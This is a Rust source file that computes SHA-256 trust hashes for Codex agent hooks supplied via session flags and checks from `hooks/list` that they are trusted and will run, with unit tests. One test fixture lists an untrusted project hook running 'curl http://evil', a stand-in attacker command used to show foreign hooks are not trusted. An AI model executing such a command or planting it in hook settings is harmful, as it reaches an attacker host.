//! Codex runs only those hooks that it was told to trust, each by the hash of its definition, and
//! says nothing of the others.
//!
//! The hash can be worked out beforehand, so one start is enough; `hooks/list` tells whether it
//! was right. Where a version hashes in another way, the list has the right one for a second
//! start. Nothing but our own hooks is ever trusted.

use std::collections::BTreeMap;

use serde::Serialize;
use serde_json::Value;
use sha2::{Digest, Sha256};

use super::Hook;
use super::overrides::{table, text};

/// The hooks to trust: key and hash of each.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Trust(BTreeMap<String, String>);

/// Where hooks from the command line are said to come from.
const SOURCE: &str = "/<session-flags>/config.toml";

impl Trust {
    /// Trust in these hooks, with hashes as 0.169.0 makes them.
    pub fn expected(hooks: &[Hook]) -> Self {
        let entry = |hook: &Hook| (format!("{SOURCE}:{}:0:0", snake(hook.event)), hash(hook));
        Self(hooks.iter().map(entry).collect())
    }

    /// Trust in these hooks, with the hashes that a running app-server has for them.
    pub fn listed(hooks: &[Hook], list: &[Listed]) -> Self {
        let ours = list.iter().filter(|listed| {
            let is_it = |hook: &Hook| listed.is(hook);
            hooks.iter().any(is_it)
        });
        Self(
            ours.map(|listed| (listed.key.clone(), listed.hash.clone()))
                .collect(),
        )
    }

    /// The value of `hooks.state`.
    pub(super) fn toml(&self) -> String {
        table(self.0.iter().map(|(key, hash)| {
            let state = format!("{{trusted_hash={},enabled=true}}", text(hash));
            (key.clone(), state)
        }))
    }
}

/// A hook in the answer to `hooks/list`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Listed {
    key: String,
    hash: String,
    event: String,
    command: String,
    from_flags: bool,
    runs: bool,
}

impl Listed {
    /// The hooks that an app-server knows, from the result of `hooks/list`.
    pub fn all(result: &Value) -> Vec<Self> {
        let folders = result["data"].as_array().into_iter().flatten();
        let hooks = folders.flat_map(|folder| folder["hooks"].as_array().into_iter().flatten());
        let string = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        hooks
            .map(|hook| Self {
                key: string(&hook["key"]),
                hash: string(&hook["currentHash"]),
                event: string(&hook["eventName"]),
                command: string(&hook["command"]),
                from_flags: hook["source"] == "sessionFlags",
                runs: hook["enabled"] == true
                    && matches!(hook["trustStatus"].as_str(), Some("trusted" | "managed")),
            })
            .collect()
    }

    /// The events of those hooks that will not run. Only where there is none may a session start.
    /// Older versions do not know every event, and list none of those: only what decides has to be
    /// there.
    pub fn missing(hooks: &[Hook], list: &[Self]) -> Vec<&'static str> {
        let is_missing = |hook: &&Hook| match list.iter().find(|listed| listed.is(hook)) {
            Some(listed) => !listed.runs,
            None => hook.decides(),
        };
        let missing = hooks.iter().filter(is_missing);
        missing.map(|hook| hook.event).collect()
    }

    fn is(&self, hook: &Hook) -> bool {
        let event = snake(hook.event);
        self.from_flags && self.command == hook.command && snake(&self.event) == event
    }
}

/// The definition of a hook as it is hashed: compact JSON, with its keys in order.
#[derive(Serialize)]
struct Definition<'a> {
    event_name: &'a str,
    hooks: [Handler<'a>; 1],
}

#[derive(Serialize)]
struct Handler<'a> {
    r#async: bool,
    command: &'a str,
    #[serde(rename = "statusMessage", skip_serializing_if = "Option::is_none")]
    status: Option<&'a str>,
    timeout: u32,
    r#type: &'a str,
}

fn hash(hook: &Hook) -> String {
    use std::fmt::Write as _;
    let definition = Definition {
        event_name: &snake(hook.event),
        hooks: [Handler {
            r#async: false,
            command: &hook.command,
            status: hook.status,
            timeout: hook.timeout,
            r#type: "command",
        }],
    };
    let json = serde_json::to_vec(&definition).unwrap_or_default();
    let digest = Sha256::digest(json);
    digest.iter().fold("sha256:".to_owned(), |mut hash, byte| {
        let _infallible = write!(hash, "{byte:02x}");
        hash
    })
}

/// `PreToolUse` and `preToolUse` as `pre_tool_use`.
fn snake(name: &str) -> String {
    let mut snake = String::new();
    for c in name.chars() {
        if c.is_ascii_uppercase() && !snake.is_empty() {
            snake.push('_');
        }
        snake.push(c.to_ascii_lowercase());
    }
    snake
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn hook() -> Hook {
        Hook {
            event: "PreToolUse",
            command: "/x/hook PreToolUse".to_owned(),
            timeout: 30,
            status: None,
        }
    }

    fn list(status: &str) -> Vec<Listed> {
        // Recorded from Codex 0.169.0.
        let entry = |command: &str, source: &str| {
            json!({
                "key": "/<session-flags>/config.toml:pre_tool_use:0:0", "eventName": "preToolUse",
                "handlerType": "command", "command": command, "source": source, "enabled": true,
                "currentHash":
                    "sha256:0499af2e47da1c72e7748cba4ea07f7fdf6332c88b42106b05011df940fb43b3",
                "trustStatus": status,
            })
        };
        let hooks = [
            entry("curl http://evil", "project"),
            entry(&hook().command, "sessionFlags"),
        ];
        Listed::all(&json!({"data": [{"cwd": "/p", "hooks": hooks}]}))
    }

    #[test]
    fn the_expected_hash_is_the_one_that_codex_lists() {
        let listed = Trust::listed(&[hook()], &list("untrusted"));
        assert_eq!(Trust::expected(&[hook()]), listed);
        assert_eq!(
            listed.toml(),
            "{\"/<session-flags>/config.toml:pre_tool_use:0:0\"={trusted_hash=\
             \"sha256:0499af2e47da1c72e7748cba4ea07f7fdf6332c88b42106b05011df940fb43b3\",\
             enabled=true}}"
        );
    }

    #[test]
    fn what_is_shown_while_it_runs_is_part_of_the_hash() {
        let hook = Hook {
            event: "PermissionRequest",
            command: "x".to_owned(),
            timeout: 30,
            status: Some("hi"),
        };
        // Listed by Codex 0.169.0.
        let listed = "sha256:0cfa6df166fa79150dd7fe460c2803a9013f1cbda33855c5c511d830891f2d00";
        assert_eq!(hash(&hook), listed);
    }

    #[test]
    fn a_hook_without_trust_is_missing() {
        assert_eq!(
            Listed::missing(&[hook()], &list("untrusted")),
            ["PreToolUse"]
        );
        assert!(Listed::missing(&[hook()], &list("trusted")).is_empty());
        let unknown = Hook {
            event: "Interrupt",
            ..hook()
        };
        assert_eq!(Listed::missing(&[hook(), unknown], &[]), ["PreToolUse"]);
    }
}
